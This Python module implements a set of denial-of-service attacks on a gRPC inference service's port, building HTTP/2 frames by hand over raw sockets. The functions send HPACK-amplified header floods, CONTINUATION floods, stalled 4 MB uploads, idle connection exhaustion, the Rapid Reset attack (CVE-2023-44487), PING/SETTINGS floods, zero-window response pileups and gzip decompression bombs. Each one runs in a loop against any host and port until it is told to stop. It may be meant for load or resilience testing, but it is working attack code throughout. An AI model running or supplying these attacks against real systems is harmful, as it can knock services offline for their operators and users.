"""Attackers of the gRPC port, over raw sockets: HTTP/2 by hand, so that its rules can be broken.

Each sends until it is told to stop, and connects again where the server closes. Each takes a host,
a port and an event that stops it, and returns how many bytes it has sent.
"""

import select
import socket
import struct
import time
import zlib
from collections.abc import Callable, Iterable
from threading import Event

INFER = "/inference.GRPCInferenceService/ModelInfer"
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_STREAM, _ACK, _END_HEADERS = 1, 1, 4
_INITIAL_WINDOW = 4
_FRAME = 16384


# HTTP/2 by hand (RFC 9113, RFC 7541).


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _length(size: int) -> bytes:
    """Returns a length of HPACK: 7 bits, then the rest in sevens."""
    if size < 127:
        return bytes([size])
    rest, coded = size - 127, b"\x7f"
    while rest >= 128:
        coded += bytes([rest & 127 | 128])
        rest >>= 7
    return coded + bytes([rest])


def _field(name: bytes, value: bytes, how: int = 0) -> bytes:
    """Returns a header field, spelled out; 0x40 puts it into the table for later."""
    return bytes([how]) + _length(len(name)) + name + _length(len(value)) + value


def _call_head(path: str = INFER, more: Iterable[tuple[bytes, bytes]] = ()) -> bytes:
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", b"x"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
        *more,
    )
    return b"".join(_field(name, value) for name, value in fields)


def _message(body: bytes, compressed: bool = False, length: int | None = None) -> bytes:
    return struct.pack(">BI", compressed, len(body) if length is None else length) + body


def connected(host: str, port: int, window: int | None = None) -> socket.socket:
    """Returns a connection that has greeted."""
    connection = socket.create_connection((host, port), timeout=5)
    settings = b"" if window is None else struct.pack(">HI", _INITIAL_WINDOW, window)
    connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, settings) + _frame(_SETTINGS, _ACK, 0))
    return connection


def _read_away(connection: socket.socket) -> None:
    """Throws away what has come, and acknowledges nothing."""
    while select.select([connection], [], [], 0)[0]:
        if not connection.recv(2**16):
            raise ConnectionError("closed")


def _close(connections: Iterable[socket.socket]) -> None:
    for connection in connections:
        connection.close()


def _flood(
    host: str, port: int, stop: Event, stream: Callable[[int], bytes], at_once: int = 1
) -> int:
    """Opens streams without end, some in one piece; each is what `stream` makes of its number."""
    sent = 0
    while not stop.is_set():
        try:
            with connected(host, port) as connection:
                for first in range(1, 2**30, 2 * at_once):
                    if stop.is_set():
                        break
                    data = b"".join(map(stream, range(first, first + 2 * at_once, 2)))
                    connection.sendall(data)
                    sent += len(data)
                    _read_away(connection)
        except OSError:
            time.sleep(0.01)
    return sent


def small_headers(host: str, port: int, stop: Event) -> int:
    """Header lists without end, of fields that take one byte each and expand to many.

    A field goes into HPACK's table once; after that each byte is that field again.
    """
    head = _call_head()
    again = b"\xbe" * (_FRAME - 1)  # the newest of the table

    def stream(number: int) -> bytes:
        block = head + _field(b"k", b"v" * 64, 0x40) if number == 1 else head
        parts = [_frame(_HEADERS, 0, number, block)]
        parts += [_frame(_CONTINUATION, 0, number, again)] * 3
        parts.append(_frame(_CONTINUATION, _END_HEADERS, number, again))
        return b"".join(parts)

    return _flood(host, port, stop, stream)


def header_frames(host: str, port: int, stop: Event, size: int = 16_000) -> int:
    """Calls whose header lists are of many small fields, all open at once."""
    head = _call_head() + _field(b"a", b"") * (size // 4)
    return _flood(host, port, stop, lambda n: _frame(_HEADERS, _END_HEADERS, n, head))


def unfinished_calls(
    host: str, port: int, stop: Event, count: int = 1000, size: int = 30, path: str = INFER
) -> int:
    """Calls that say that 4 MB will come, send some bytes, and then one now and then.

    Each connection has 25 of them, and is made again when it is closed.
    """
    begun = _message(b"\x2a" * size, length=4_000_000)
    each, sent = 25, 0
    connections: list[socket.socket | None] = [None] * (count // each)
    while not stop.is_set():
        for number, connection in enumerate(connections):
            try:
                if connection is None:
                    connection = connected(host, port)
                    connections[number] = connection
                    for stream in range(1, 2 * each, 2):
                        data = _frame(_HEADERS, _END_HEADERS, stream, _call_head(path))
                        for start in range(0, len(begun), _FRAME):
                            data += _frame(_DATA, 0, stream, begun[start : start + _FRAME])
                        connection.sendall(data)
                        sent += len(data)
                else:
                    data = b"".join(_frame(_DATA, 0, s, b"\x2a") for s in range(1, 2 * each, 2))
                    connection.sendall(data)
                    sent += len(data)
                    _read_away(connection)
            except OSError:
                if connection is not None:
                    connection.close()
                connections[number] = None
        stop.wait(0.5)
    _close(c for c in connections if c is not None)
    return sent


def idle_connections(
    host: str, port: int, stop: Event, count: int = 2000, greet: bool = True
) -> int:
    """Connections that say nothing more, or nothing at all."""
    connections: list[socket.socket] = []
    sent = 0
    while not stop.is_set():
        while len(connections) < count and not stop.is_set():
            try:
                if greet:
                    connections.append(connected(host, port))
                    sent += len(_PREFACE) + 18
                else:
                    connections.append(socket.create_connection((host, port), timeout=5))
            except OSError:
                break
        stop.wait(0.1)
    _close(connections)
    return sent


def bad_headers(host: str, port: int, stop: Event) -> int:
    """Header lists of thousands of fields that gRPC says are wrong, each of them."""
    head = _call_head() + _field(b"te", b"x") * 2000
    return _flood(host, port, stop, lambda n: _frame(_HEADERS, _END_HEADERS, n, head))


def rapid_reset(host: str, port: int, stop: Event) -> int:
    """Calls that are taken back at once, as many as go through (CVE-2023-44487)."""
    head, cancel = _call_head(), struct.pack(">I", 8)

    def stream(number: int) -> bytes:
        call = _frame(_HEADERS, _END_HEADERS, number, head)
        return call + _frame(_RST_STREAM, 0, number, cancel)

    return _flood(host, port, stop, stream, at_once=100)


def many_streams(host: str, port: int, stop: Event) -> int:
    """Calls without end on one connection, none of which is finished or taken back."""
    head = _call_head()
    return _flood(host, port, stop, lambda n: _frame(_HEADERS, _END_HEADERS, n, head), at_once=100)


def control_frames(host: str, port: int, stop: Event) -> int:
    """PING and SETTINGS frames without end, whose answers are not read."""
    data = (_frame(_PING, 0, 0, bytes(8)) + _frame(_SETTINGS, 0, 0)) * 200
    sent = 0
    while not stop.is_set():
        try:
            with connected(host, port) as connection:
                connection.settimeout(0.5)
                while not stop.is_set():
                    connection.sendall(data)
                    sent += len(data)
        except OSError:
            time.sleep(0.01)
    return sent


def unread_grpc_answers(
    host: str, port: int, stop: Event, request: bytes = b"", count: int = 40
) -> int:
    """Whole calls whose answers the client has no window for: 100 on each connection."""
    connections: list[socket.socket] = []
    head, sent = _call_head(), 0
    data = b""
    for stream in range(1, 200, 2):
        data += _frame(_HEADERS, _END_HEADERS, stream, head)
        body = _message(request)
        for start in range(0, len(body), _FRAME):
            last = start + _FRAME >= len(body)
            data += _frame(_DATA, last and _END_STREAM, stream, body[start : start + _FRAME])
    while not stop.is_set():
        if len(connections) < count:
            try:
                connections.append(connected(host, port, window=0))
                connections[-1].sendall(data)
                sent += len(data)
            except OSError:
                pass
        for connection in tuple(connections):
            try:
                _read_away(connection)
            except OSError:
                connections.remove(connection)
                connection.close()
        stop.wait(0.02)
    _close(connections)
    return sent


def compressed_bombs(host: str, port: int, stop: Event, mib: int = 1024) -> int:
    """Messages of gzip that are 1,000 times as large when they are unpacked."""
    packer = zlib.compressobj(9, wbits=31)
    packed = b"".join(packer.compress(bytes(2**20)) for _ in range(mib)) + packer.flush()
    head = _call_head(more=[(b"grpc-encoding", b"gzip")])
    body = _message(packed, compressed=True)
    sent = 0
    while not stop.is_set():
        try:
            with connected(host, port) as connection:
                for stream in range(1, 2**20, 2):
                    connection.sendall(_frame(_HEADERS, _END_HEADERS, stream, head))
                    for start in range(0, len(body), _FRAME):
                        last = start + _FRAME >= len(body)
                        piece = body[start : start + _FRAME]
                        connection.sendall(_frame(_DATA, last and _END_STREAM, stream, piece))
                        sent += len(piece)
                    _read_away(connection)
                    if stop.wait(0.1):
                        break
        except OSError:
            time.sleep(0.01)
    return sent
